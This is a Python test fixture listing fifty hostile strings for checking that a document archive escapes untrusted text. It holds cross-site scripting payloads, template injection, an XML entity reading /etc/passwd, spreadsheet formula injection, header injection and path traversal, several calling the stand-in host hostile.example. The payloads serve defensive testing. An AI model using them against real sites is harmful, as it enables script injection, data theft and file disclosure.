"""Fifty texts that a hostile portal, file or correction could leave in the archive.

Each tries one thing, named by its comment. What they would run sets `window.pwned`, and what they
would fetch is at hostile.example, so that a browser can tell whether one of them was more than
text.
"""

from __future__ import annotations

from base64 import b64encode

RUN = "window.pwned=1"
AWAY = "http://hostile.example/x"

PAYLOADS = (
    # Script elements: plain, in odd spelling, from elsewhere, unfinished.
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script src={AWAY}.js></script>",
    f"<script>{RUN}//",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    # Event handlers, on elements that fire by themselves.
    f'<img src=x onerror="{RUN}">',
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>年报</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    # Out of an attribute, quoted either way or not at all.
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='",
    f"x onfocus={RUN} autofocus tabindex=1",
    # Addresses that run or carry a page of their own.
    f"javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"JaVaScRiPt:{RUN}//http://gov.example/",
    f"data:text/html,<script>parent.{RUN}</script>",
    f"data:text/html;base64,{b64encode(f'<script>parent.{RUN}</script>'.encode()).decode()}",
    f"vbscript:{RUN}",
    "//hostile.example/x",
    "/\\hostile.example/x",
    # Elements that ask elsewhere or change where links and forms lead.
    f'<base href="{AWAY}/">',
    f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    f'<link rel="stylesheet" href="{AWAY}.css">',
    f'<form action="{AWAY}"><button autofocus>查询</button></form>',
    f"<object data={AWAY}></object><embed src={AWAY}>",
    # Styles: out of a declaration, out of an element, and what they fetch.
    f"</style><style>body{{background:url({AWAY})}}",
    f"x}};body{{display:none}};@import url({AWAY})",
    # Templates of the server's and of browsers' frameworks.
    "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    f"${{7*7}}#{{7*7}}<%= 7*7 %>{{{{constructor.constructor('{RUN}')()}}}}",
    # Out of JSON-LD, a comment, a text area, a title, CDATA; entities of XML.
    f'</script><script>{RUN}</script>{{"@context":"x"}}',
    f"--><script>{RUN}</script><!--",
    f"</textarea></title></noscript><script>{RUN}</script>",
    f"]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;&lt;script&gt;&#x3c;b&#62;',
    # Formulas of spreadsheets.
    "=cmd|'/C calc'!A0",
    '@SUM(1+1)*HYPERLINK("http://hostile.example/x","年报")',
    "+1+1|-2+3|\t=1+1",
    # Lines of their own: headers, RIS and BibTeX entries, feeds.
    f"年报\r\nSet-Cookie: pwned=1\r\n\r\n<script>{RUN}</script>",
    "年报\nER  - \nTY  - JOUR\nUR  - http://hostile.example/x}},\n@misc{pwned, title={x}}",
    # Names of files that leave their folder.
    "../../../../etc/passwd%00.html",
    "..\\..\\%2e%2e%2fnianbao.db?x#y;<b>",
    # Letters that show another order, none at all, or end a text for C.
    "\u202egpj.fdp\u2066年报\u2069\u200f\u0000\u0007\u001b[31m\ufeff\ufffe<b>",
    # Longer than any column, without a place to break a line.
    "长" * 3000 + "W" * 3000 + f"<script>{RUN}</script>",
)
